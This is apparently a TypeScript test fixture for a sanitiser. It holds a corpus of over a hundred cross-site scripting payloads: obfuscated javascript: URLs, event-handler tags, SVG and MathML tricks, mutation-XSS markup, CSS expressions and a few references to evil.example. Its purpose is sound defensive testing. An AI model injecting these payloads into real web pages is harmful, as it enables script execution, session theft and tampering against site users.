/**
 * Hostile rich text: at least 100 payloads that would run script if they reached a page unchanged.
 * Every payload, when it runs, calls `window.__xss.push(n)`, `alert(n)` or `fetch('/xss/n')`, so a
 * browser test can detect any execution (an init script defines window.__xss = [], and dialogs and
 * requests are watched).
 */
const J = 'window.__xss.push(1)';
const A = 'alert(1)';
const F = "fetch('/xss/1')";

/** Spellings of `javascript:` a lax filter misses and a browser still follows. */
const JS_SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106;&#0000097;&#0000118;&#0000097;&#0000115;&#0000099;&#0000114;&#0000105;&#0000112;&#0000116;&#0000058;',
  '&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a',
  'jav&#x09;ascript:',
  'jav&#x0A;ascript:',
  'jav&Tab;ascript:',
  'java&NewLine;script:',
  'javascript&#58;',
  'javascript&#x3A;',
  '%6A%61%76%61%73%63%72%69%70%74:',
];

const OTHER_SCHEMES = [
  `data:text/html,<script>${J}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${J}</script>`).toString('base64')}`,
  `DATA:text/html,<script>${J}</script>`,
  `&#100;ata:text/html,<script>${J}</script>`,
  `data:image/svg+xml,<svg onload=${J}>`,
  `data:application/javascript,${J}`,
  `vbscript:msgbox(1)`,
  `VBScript:${J}`,
  `livescript:${J}`,
  `jar:javascript:${J}`,
];

const linkPayloads = [
  ...JS_SCHEMES.map((s) => `<a href="${s}${J}">link</a>`),
  ...JS_SCHEMES.slice(0, 6).map((s) => `<a href='${s}${A}'>single quoted</a>`),
  ...OTHER_SCHEMES.map((s) => `<a href="${s}">other scheme</a>`),
  `<a href=javascript:${J}>unquoted</a>`,
  `<a href="//evil.example/x.js">protocol relative</a>`,
  `<a href="http://x" onclick="${J}">with handler</a>`,
  `<a href="#" onmouseover="${J}" style="display:block;width:100%;height:100%">hover</a>`,
  `<a xlink:href="javascript:${J}">xlink</a>`,
  `<a href="javascript:${J}" target="_self">self</a>`,
];

const scriptPayloads = [
  `<script>${J}</script>`,
  `<SCRIPT>${J}</SCRIPT>`,
  `<script src="data:text/javascript,${J}"></script>`,
  `<script>${A}</script>`,
  `<script type="module">${J}</script>`,
  `<script/x>${J}</script>`,
  `<script\n>${J}</script\n>`,
  `<scr<script>ipt>${J}</scr</script>ipt>`,
  `<<script>script>${J}<</script>/script>`,
  `<script>/*</script><script>*/${J}</script>`,
  `"><script>${J}</script>`,
  `'><script>${J}</script>`,
  `</textarea><script>${J}</script>`,
  `</title><script>${J}</script>`,
  `<!--<script>${J}</script>-->`,
  `<!--><script>${J}</script>-->`,
  `<![CDATA[<script>${J}</script>]]>`,
  `&lt;script&gt;${J}&lt;/script&gt;`,
  `<script>${F}</script>`,
];

const handlerPayloads = [
  `<img src=x onerror=${J}>`,
  `<img src="x" onerror="${J}">`,
  `<IMG SRC=x OnErRoR=${J}>`,
  `<img src=x onerror=&#119;indow.__xss.push(1)>`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<img/src=x/onerror=${J}>`,
  `<img src=x onerror\n=${J}>`,
  `<img src=x onerror=${A}//`,
  `<image src=x onerror=${J}>`,
  `<body onload=${J}>`,
  `<p onclick="${J}">click</p>`,
  `<p onmouseover="${J}" style="position:fixed;inset:0">cover</p>`,
  `<strong onfocus=${J} tabindex=0 autofocus>focus</strong>`,
  `<input autofocus onfocus=${J}>`,
  `<select autofocus onfocus=${J}></select>`,
  `<textarea autofocus onfocus=${J}></textarea>`,
  `<keygen autofocus onfocus=${J}>`,
  `<video><source onerror=${J}></video>`,
  `<audio src=x onerror=${J}>`,
  `<video src=x onerror=${J}>`,
  `<details open ontoggle=${J}>`,
  `<marquee onstart=${J}>x</marquee>`,
  `<div onpointerenter=${J} style="position:fixed;inset:0">x</div>`,
  `<span onanimationstart=${J} style="animation-name:spin">x</span>`,
  `<h1 oncopy=${J}>copy</h1>`,
  `<blockquote onbeforeinput=${J} contenteditable>x</blockquote>`,
  `<li onwheel=${J}>x</li>`,
  `<a href="https://example.com" onauxclick=${J}>x</a>`,
  `<img src=x onerror=${F}>`,
  `<p/onclick=${J}>slash</p>`,
  `<p onclick=${J}//>comment</p>`,
  `<p\x0conclick=${J}>form feed</p>`,
];

const embedPayloads = [
  `<iframe src="javascript:${J}"></iframe>`,
  `<iframe srcdoc="<script>parent.${J}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${J}&gt;"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${J}</script>"></iframe>`,
  `<object data="javascript:${J}"></object>`,
  `<object data="data:text/html,<script>${J}</script>"></object>`,
  `<embed src="javascript:${J}">`,
  `<embed src="data:image/svg+xml,<svg onload=${J}>">`,
  `<frameset onload=${J}>`,
  `<applet code="x" onerror=${J}></applet>`,
  `<portal src="javascript:${J}"></portal>`,
  `<link rel=import href="data:text/html,<script>${J}</script>">`,
  `<link rel=stylesheet href="javascript:${J}">`,
];

const svgPayloads = [
  `<svg onload=${J}>`,
  `<svg><script>${J}</script></svg>`,
  `<svg><script href="data:text/javascript,${J}"/></svg>`,
  `<svg><a xlink:href="javascript:${J}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${J} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${J}"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${J}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${J}'/></svg>#x"/></svg>`,
  `<svg><style>@import 'javascript:${J}';</style></svg>`,
  `<svg><desc><img src=x onerror=${J}></desc></svg>`,
  `<svg><title><img src=x onerror=${J}></title></svg>`,
];

const mathPayloads = [
  `<math><mtext><table><mglyph><style><img src=x onerror=${J}></style></mglyph></table></mtext></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${J}">x</maction></math>`,
  `<math href="javascript:${J}">click</math>`,
  `<math><mi xlink:href="data:x,<script>${J}</script>">x</mi></math>`,
  `<math><mtext><h1><a><img src=x onerror=${J}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${J}></annotation-xml></math>`,
];

/** Mutation XSS: markup that a sanitiser reads one way and a browser re-parses another. */
const mutationPayloads = [
  `<noscript><p title="</noscript><img src=x onerror=${J}>"></noscript>`,
  `<style><img src=x onerror=${J}></style>`,
  `<style></style><img src=x onerror=${J}>`,
  `<textarea><img src=x onerror=${J}></textarea>`,
  `<textarea></textarea><img src=x onerror=${J}>`,
  `<template><img src=x onerror=${J}></template>`,
  `<template><script>${J}</script></template>`,
  `<title><img src=x onerror=${J}></title>`,
  `<xmp><img src=x onerror=${J}></xmp>`,
  `<plaintext><img src=x onerror=${J}>`,
  `<noembed><img title="</noembed><img src=x onerror=${J}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${J}>"></noframes>`,
  `<iframe><img title="</iframe><img src=x onerror=${J}>"></iframe>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${J}>">`,
  `<svg><p><style><a id="</style><img src=1 onerror=${J}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${J}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${J}>`,
  `<svg><![CDATA[><img src=x onerror=${J}>]]></svg>`,
  `<p title="<img src=x onerror=${J}>">attribute text</p>`,
  `<a title="&lt;/a&gt;&lt;img src=x onerror=${J}&gt;" href="https://example.com">x</a>`,
  `<p>&lt;img src=x onerror=${J}&gt;</p>`,
  `<select><template><style><img src=x onerror=${J}></style></template></select>`,
  `<table><td><style><img src=x onerror=${J}></style></td></table>`,
  `<div id="1"><p>1</p><!--<p id="--><img src=x onerror=${J}>"-->`,
  `<a href="https://example.com"><img src=x onerror=${J}></a>`,
  `<listing>&lt;img src=x onerror=${J}&gt;</listing>`,
];

const cssPayloads = [
  `<p style="background:url(javascript:${J})">css url</p>`,
  `<p style="width:expression(${J})">css expression</p>`,
  `<p style="behavior:url(x.htc)">behavior</p>`,
  `<p style="-moz-binding:url(data:text/xml,x)">binding</p>`,
  `<style>@import url("javascript:${J}");</style>`,
  `<style>body{background:url("javascript:${J}")}</style>`,
  `<style>*{x:expression(${J})}</style>`,
  `<span style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</span>`,
  `<div style="background-image:url('data:image/svg+xml,<svg onload=${J}>')">x</div>`,
];

const documentPayloads = [
  `<meta http-equiv="refresh" content="0;url=javascript:${J}">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${J}</script>">`,
  `<meta charset="UTF-7"><p>+ADw-script+AD4-${J}+ADw-/script+AD4-</p>`,
  `<base href="javascript:${J}//">`,
  `<base href="https://evil.example/">`,
  `<form action="javascript:${J}"><button>Send</button></form>`,
  `<form><button formaction="javascript:${J}">Send</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${J}">x</button>`,
  `<input type="image" src=x onerror=${J}>`,
  `<isindex action="javascript:${J}" type=image>`,
  `<button popovertarget=x>o</button><div popover id=x onbeforetoggle=${J}>x</div>`,
  `<img src=x id=__xss name=__xss>`,
  `<a id="location" href="javascript:${J}">clobber</a>`,
  `<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>`,
  `<xss onafterscriptexecute=${J}><script>1</script>`,
  `<svg><animate attributeName="href" values="javascript:${J}"/></svg>`,
  `{{constructor.constructor('${J}')()}}`,
  `<p>\${${J}}</p>`,
];

export const XSS_CORPUS: string[] = [
  ...scriptPayloads,
  ...handlerPayloads,
  ...linkPayloads,
  ...embedPayloads,
  ...svgPayloads,
  ...mathPayloads,
  ...mutationPayloads,
  ...cssPayloads,
  ...documentPayloads,
];
